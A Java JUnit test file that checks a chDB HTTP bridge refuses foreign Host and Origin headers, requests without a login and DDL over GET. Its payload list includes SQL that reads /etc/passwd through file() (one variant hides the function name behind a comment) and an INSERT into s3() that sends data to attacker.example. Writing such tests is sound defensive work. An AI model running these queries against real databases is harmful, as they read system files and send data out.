import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.net.Socket;
import java.net.URI;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Base64;

import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;

/**
 * The chDB bridge is closed to everyone but the lab (issue: it answered file('/etc/passwd') over GET, ran DDL over
 * GET, and served POSTs with a foreign Origin or Host). Each request is written byte by byte on a socket, as a web page
 * or another local process could send it; each foreign one must be refused, and the lab's own must still work.
 * {@code -Dchdb.bridge.url=http://127.0.0.1:N} points it at another bridge (how the old one was seen answering them all).
 */
class ChdbBridgeSecurityTest {
    private static URI bridge;
    private static String hostHeader;
    private static String login;

    @BeforeAll
    static void theBridge() {
        String url = System.getProperty("chdb.bridge.url");
        bridge = URI.create(url != null ? url : TestClickHouse.bridgeUrl()); // skips when the tests use a server, not a bridge
        hostHeader = bridge.getHost() + ":" + bridge.getPort();
        LabConfig lab = TestLab.config();
        login = "Basic " + Base64.getEncoder().encodeToString((lab.clickhouseUser() + ":" + lab.clickhousePassword())
                .getBytes(StandardCharsets.UTF_8));
    }

    record Answer(int status, String text) {}

    /** One HTTP/1.1 request, exactly as given (Host, Origin, login), and the status and body it got. */
    private static Answer send(String method, String query, String body, String host, String origin, String authorization) throws IOException {
        String path = query == null ? "/" : "/?query=" + URLEncoder.encode(query, StandardCharsets.UTF_8);
        byte[] content = body == null ? new byte[0] : body.getBytes(StandardCharsets.UTF_8);
        StringBuilder request = new StringBuilder(method + " " + path + " HTTP/1.1\r\nHost: " + host + "\r\nConnection: close\r\n");
        if (origin != null) {
            request.append("Origin: ").append(origin).append("\r\n");
        }
        if (authorization != null) {
            request.append("Authorization: ").append(authorization).append("\r\n");
        }
        request.append("Content-Length: ").append(content.length).append("\r\n\r\n");
        try (Socket socket = new Socket(bridge.getHost(), bridge.getPort())) {
            socket.setSoTimeout(30_000);
            OutputStream out = socket.getOutputStream();
            out.write(request.toString().getBytes(StandardCharsets.UTF_8));
            out.write(content);
            out.flush();
            InputStream in = socket.getInputStream();
            String response = new String(in.readAllBytes(), StandardCharsets.UTF_8);
            int status = Integer.parseInt(response.substring(9, 12));
            return new Answer(status, response.substring(response.indexOf("\r\n\r\n") + 4));
        }
    }

    private static Answer post(String sql) throws IOException {
        return send("POST", null, sql, hostHeader, null, login);
    }

    @Test
    void theLabsOwnRequestsStillWork() throws IOException {
        assertThat(post("SELECT 40 + 2")).as("a POST with the lab's Host and login").isEqualTo(new Answer(200, "42\n"));
        assertThat(send("GET", "SELECT 'read'", null, hostHeader, null, login).text()).as("a read-only GET").isEqualTo("read\n");
        assertThat(send("GET", "SELECT 1", null, "localhost:" + bridge.getPort(), "http://localhost:" + bridge.getPort(), login).status())
                .as("its own origin, spelled localhost").isEqualTo(200);
    }

    @Test
    void aForeignHostIsRefusedAsDnsRebindingWouldSendIt() throws IOException {
        Answer a = send("POST", null, "SELECT 'leaked'", "attacker.example:" + bridge.getPort(), null, login);
        assertThat(a.status()).as("status for Host attacker.example (%s)", a.text()).isEqualTo(403);
        assertThat(a.text()).as("what came back").doesNotContain("leaked").contains("Host");
    }

    @Test
    void aForeignOriginIsRefusedAsAWebPagesFormPostWouldSendIt() throws IOException {
        Answer a = send("POST", null, "SELECT 'leaked'", hostHeader, "http://attacker.example", login);
        assertThat(a.status()).as("status for Origin http://attacker.example (%s)", a.text()).isEqualTo(403);
        assertThat(a.text()).doesNotContain("leaked");
    }

    @Test
    void withoutTheLabsLoginNothingRuns() throws IOException {
        assertThat(send("POST", null, "SELECT 'leaked'", hostHeader, null, null).status()).as("no login").isEqualTo(401);
        String wrong = "Basic " + Base64.getEncoder().encodeToString("default:guess".getBytes(StandardCharsets.UTF_8));
        Answer a = send("POST", null, "SELECT 'leaked'", hostHeader, null, wrong);
        assertThat(a.status()).as("a wrong password (%s)", a.text()).isEqualTo(401);
        assertThat(a.text()).as("ClickHouse's AUTHENTICATION_FAILED").contains("Code: 516").doesNotContain("leaked");
        LabConfig lab = TestLab.config();
        Answer inUrl = send("POST", "SELECT 'leaked'&user=" + lab.clickhouseUser() + "&password=" + lab.clickhousePassword(), null,
                hostHeader, null, null);
        assertThat(inUrl.status()).as("a login in the URL, as an <img src> could carry it (%s)", inUrl.text()).isEqualTo(401);
    }

    @Test
    void getIsReadOnlyLikeOnAServer() throws IOException {
        String table = "get_made_me_" + Long.toHexString(System.nanoTime());
        Answer a = send("GET", "CREATE TABLE " + table + " (x UInt8) ENGINE = Memory", null, hostHeader, null, login);
        assertThat(a.text()).as("CREATE over GET").contains("Code: 164");
        assertThat(post("EXISTS TABLE " + table).text()).as("the table exists afterwards").isEqualTo("0\n");
    }

    @Test
    void filesAndOtherHostsAreOutOfReach(@org.junit.jupiter.api.io.TempDir Path dir) throws IOException {
        for (String sql : new String[] {
                "SELECT * FROM file('/etc/passwd', 'LineAsString')",
                "SELECT * FROM \"file\"/* hidden */('/etc/passwd', 'LineAsString')",
                "SELECT file('/etc/passwd')",
                "CREATE TABLE passwd (line String) ENGINE = File(LineAsString, '/etc/passwd')",
                "SELECT * FROM url('http://127.0.0.1:1/', 'LineAsString')",
                "INSERT INTO FUNCTION s3('http://attacker.example/bucket/x.csv', 'CSV') SELECT 1",
                "SELECT 1 INTO OUTFILE '" + dir.resolve("out.txt") + "'"}) {
            Answer a = post(sql);
            assertThat(a.status()).as("status of %s (%s)", sql, a.text()).isNotEqualTo(200);
            assertThat(a.text()).as("answer to %s", sql).contains("Code: 497").doesNotContain("root:");
        }
        assertThat(Files.exists(dir.resolve("out.txt"))).as("INTO OUTFILE wrote a file").isFalse();
    }

    @Test
    void aSetLastsOneRequestAsOnAServerWithoutASession() throws IOException {
        String before = post("SELECT getSetting('max_threads')").text();
        assertThat(post("SET max_threads = 1").status()).as("SET answered").isEqualTo(200);
        assertThat(post("SELECT getSetting('max_threads')").text()).as("max_threads on the next request").isEqualTo(before);
    }
}
